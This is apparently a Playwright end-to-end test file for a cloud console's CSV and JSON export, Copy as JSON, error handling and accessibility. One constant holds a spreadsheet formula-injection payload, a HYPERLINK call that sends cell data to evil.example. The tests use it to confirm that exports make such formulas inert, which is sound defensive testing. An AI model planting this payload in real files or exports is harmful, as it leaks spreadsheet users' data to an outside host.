import { readFile } from 'node:fs/promises';
import type { APIRequestContext, Download, Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { DEMO_TOKEN, gotoArea, resetEmulator } from './helpers';
import { expectNoAxeViolations } from './axe';
import { EMULATOR_URL } from './env';
import { parseCsv } from '../src/test/parseCsv';
import { DEMO_IDS, DEMO_TEAM_IDS, DEMO_VM_IDS, DEMO_VPC_IDS } from '../src/emulator/core/demoFixture';
import { HOSTILE_VALUES } from '../src/emulator/fixtures/hostileFixture';
import { loadHostileFixture } from './hostile';

test.beforeEach(async ({ request }) => {
  await resetEmulator(request);
});

const TEAM = DEMO_TEAM_IDS.production;
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const BOM = '\uFEFF';

/** Another client renames the spare reserved IP to a name a spreadsheet would run. */
async function renameSpareToFormula(request: APIRequestContext) {
  const response = await request.patch(`${EMULATOR_URL}/network/reserved_ips/${DEMO_IDS.spareReservedIp}`, {
    headers: { Authorization: `Bearer ${DEMO_TOKEN}` },
    data: { team_id: TEAM, name: FORMULA },
  });
  expect(response.ok(), await response.text()).toBe(true);
}

/** Chooses a format in the list's Export menu and returns the file the browser saved. */
async function exportAs(page: Page, list: string, format: RegExp): Promise<Download> {
  const downloaded = page.waitForEvent('download');
  await page.getByRole('button', { name: `Export ${list}` }).click();
  await page.getByRole('menuitem', { name: format }).click();
  return downloaded;
}

async function textOf(download: Download): Promise<string> {
  return readFile(await download.path(), 'utf8');
}

/** The first cell of each body row, as the table shows them. */
async function shownNames(page: Page, table: string): Promise<string[]> {
  const rows = page.getByRole('table', { name: table }).getByRole('row');
  const names = await rows.evaluateAll((elements) =>
    // The name is the first cell that is not the row's checkbox (lists that select rows have one first).
    elements.slice(1).map(
      (row) =>
        Array.from(row.querySelectorAll('td'))
          .find((cell) => !cell.querySelector('input[type="checkbox"]'))
          ?.textContent?.trim() ?? '',
    ),
  );
  return names.filter((name) => name !== '');
}

test.describe('in German', () => {
  test.use({ locale: 'de-DE', timezoneId: 'UTC' });

  test('a searched, sorted list is exported as the CSV a German spreadsheet opens, formulas made inert', async ({
    page,
    request,
  }) => {
    await renameSpareToFormula(request);
    await gotoArea(page, 'reserved-ips');
    const table = page.getByRole('table', { name: 'Reserved IPs' });
    await expect(table.getByRole('row')).toHaveCount(4);

    await page.getByRole('searchbox', { name: 'Search reserved IPs' }).fill('203.0.113');
    await expect(table.getByRole('row')).toHaveCount(3);
    const billed = table.getByRole('columnheader', { name: 'Total billed' });
    await billed.getByRole('button').click();
    await expect(billed).toHaveAttribute('aria-sort', 'descending');
    await expect(page).toHaveURL(/sort=billed/);
    const shown = await shownNames(page, 'Reserved IPs');
    expect(shown).toEqual(['edge anycast', FORMULA]);

    const download = await exportAs(page, 'reserved IPs', /CSV/);
    expect(download.suggestedFilename()).toMatch(new RegExp(`^reserved-ips-${TEAM}-\\d{4}-\\d{2}-\\d{2}\\.csv$`));
    const text = await textOf(download);
    expect(text.startsWith(BOM)).toBe(true);
    // German spreadsheets take the semicolon: the decimal sign is a comma.
    const [header, ...rows] = parseCsv(text.slice(BOM.length), ';');
    expect(header).toEqual(['Name', 'Address', 'Location', 'Status', 'Attached to', 'Price', 'Renews', 'Total billed']);
    // The rows as shown, in their order; the formula-like name starts with a quote, so it is text.
    expect(rows.map((row) => row[0])).toEqual(['edge anycast', `'${FORMULA}`]);
    expect(rows[0]?.slice(5)).toEqual(['3,5', '20.12.2026 00:00:00', '14']);
    expect(rows[1]).toEqual([
      `'${FORMULA}`,
      '203.0.113.60',
      'Frankfurt',
      'active',
      '',
      '3,5',
      '01.12.2026 00:00:00',
      '3,5',
    ]);
    await expect(page.getByRole('region', { name: 'Notifications' })).toContainText('2 reserved IPs exported as CSV.');
  });
});

test('a list is exported as JSON of the API’s values, by keyboard', async ({ page }) => {
  await gotoArea(page, 'vpcs?sort=name&dir=asc');
  const table = page.getByRole('table', { name: 'VPCs' });
  await expect(table.getByRole('row').nth(1)).toBeVisible();
  const shown = await shownNames(page, 'VPCs');

  const downloaded = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export VPCs' }).focus();
  await page.keyboard.press('Enter');
  await expect(page.getByRole('menuitem', { name: /CSV/ })).toBeFocused();
  await page.keyboard.press('ArrowDown');
  await expect(page.getByRole('menuitem', { name: /JSON/ })).toBeFocused();
  await page.keyboard.press('Enter');
  const download = await downloaded;
  expect(download.suggestedFilename()).toMatch(/^vpcs-.+\.json$/);
  await expect(page.getByRole('button', { name: 'Export VPCs' })).toBeFocused();

  const exported = JSON.parse(await textOf(download)) as Record<string, unknown>[];
  expect(exported.map((vpc) => vpc.name)).toEqual(shown);
  const prodAms = exported.find((vpc) => vpc.id === DEMO_VPC_IDS.productionAms);
  expect(prodAms).toMatchObject({ name: 'prod-ams', subnet: '10.10.0.0/24', status: 'active' });
  // Raw values: an ISO time as the API sent it, a count as a number.
  expect(prodAms?.created).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$/);
  expect(typeof prodAms?.vms).toBe('number');
  // Every column the table has, those a narrow screen leaves out too.
  expect(Object.keys(prodAms ?? {})).toEqual(['name', 'status', 'location', 'subnet', 'vms', 'owner', 'created', 'id']);
});

test('Copy as JSON on a VM page copies its answer without the root password, by keyboard', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await gotoArea(page, `vms/${DEMO_VM_IDS.web1}`);
  await expect(page.getByRole('heading', { level: 1, name: /web-1/ })).toBeVisible();
  const copy = page.getByRole('button', { name: 'Copy as JSON' });
  await copy.focus();
  await page.keyboard.press('Enter');
  await expect(page.getByRole('region', { name: 'Notifications' })).toContainText(
    'VM copied as JSON, without its root password.',
  );
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  const vm = JSON.parse(copied) as Record<string, unknown>;
  expect(vm).toMatchObject({ id: DEMO_VM_IDS.web1, name: 'web-1' });
  expect(vm).not.toHaveProperty('password');
  // Pretty-printed, as it came: two spaces.
  expect(copied).toContain(`\n  "id": "${DEMO_VM_IDS.web1}"`);
  // The password stays out of the page until asked.
  await expect(page.getByRole('button', { name: 'Show root password' })).toBeVisible();
});

test('hostile names (markup, emoji, right-to-left overrides) come out of CSV and JSON exactly', async ({
  page,
  request,
}) => {
  await loadHostileFixture(request);
  await gotoArea(page, 'ssh-keys');
  await expect(page.getByRole('table', { name: 'SSH keys' }).getByRole('row')).toHaveCount(4);
  const names = [HOSTILE_VALUES.sshKeyMix, HOSTILE_VALUES.sshKeyLong, HOSTILE_VALUES.vmSpoof];

  const json = JSON.parse(await textOf(await exportAs(page, 'keys', /JSON/))) as { name: string }[];
  expect(json.map((key) => key.name).toSorted()).toEqual(names.toSorted());
  const csv = await textOf(await exportAs(page, 'keys', /CSV/));
  const [, ...rows] = parseCsv(csv.slice(BOM.length), ',');
  // Same rows, same order, each name exactly as the server sent it.
  expect(rows.map((row) => row[0])).toEqual(json.map((key) => key.name));
});

test(
  'a resource page that could not be read offers no Copy as JSON, and says why in the operation’s words',
  { tag: '@errors' },
  async ({ page }) => {
    // A refusal without a code, as the provider documents most of them: the words come from GET and 403.
    const vpcRead = new RegExp(`/api/network/vpcs/${DEMO_VPC_IDS.productionAms}(\\?.*)?$`);
    await page.route(vpcRead, (route) =>
      route.request().method() === 'GET' ? route.fulfill({ status: 403, body: '' }) : route.fallback(),
    );
    await gotoArea(page, `vpcs/${DEMO_VPC_IDS.productionAms}`);
    await expect(page.getByText('The VPC could not be loaded')).toBeVisible();
    await expect(page.getByText('You do not have permission to do this.')).toBeVisible();
    await expect(page.getByRole('button', { name: 'Copy as JSON' })).toHaveCount(0);

    await page.unroute(vpcRead);
    await page.getByRole('button', { name: 'Retry' }).click();
    await expect(page.getByRole('heading', { level: 1, name: /prod-ams/ })).toBeVisible();
    await expect(page.getByRole('button', { name: 'Copy as JSON' })).toBeVisible();
    await expect(page.getByText('You do not have permission to do this.')).toHaveCount(0);
  },
);

for (const colorScheme of ['light', 'dark'] as const) {
  test.describe(`${colorScheme} theme`, () => {
    test.use({ colorScheme });

    test('the Export menu and Copy as JSON pass axe at 1440, 1024 and 390 px', async ({ page }) => {
      const widths = [1440, 1024, 390];
      await gotoArea(page, 'ssh-keys');
      await expect(page.getByRole('table', { name: 'SSH keys' }).getByRole('row').nth(1)).toBeVisible();
      const exportButton = page.getByRole('button', { name: 'Export keys' });
      for (const width of widths) {
        await page.setViewportSize({ width, height: 900 });
        await expect(exportButton).toBeInViewport();
        await exportButton.click();
        await expect(page.getByRole('menuitem', { name: /JSON/ })).toBeInViewport();
        await expectNoAxeViolations(page, `Export menu at ${width} px`);
        await page.keyboard.press('Escape');
        await expect(exportButton).toBeFocused();
      }

      await page.setViewportSize({ width: 1440, height: 900 });
      await gotoArea(page, `vms/${DEMO_VM_IDS.web1}`);
      const copy = page.getByRole('button', { name: 'Copy as JSON' });
      for (const width of widths) {
        await page.setViewportSize({ width, height: 900 });
        await copy.scrollIntoViewIfNeeded();
        await expect(copy).toBeInViewport();
        await expectNoAxeViolations(page, `VM page at ${width} px`);
      }
    });
  });
}
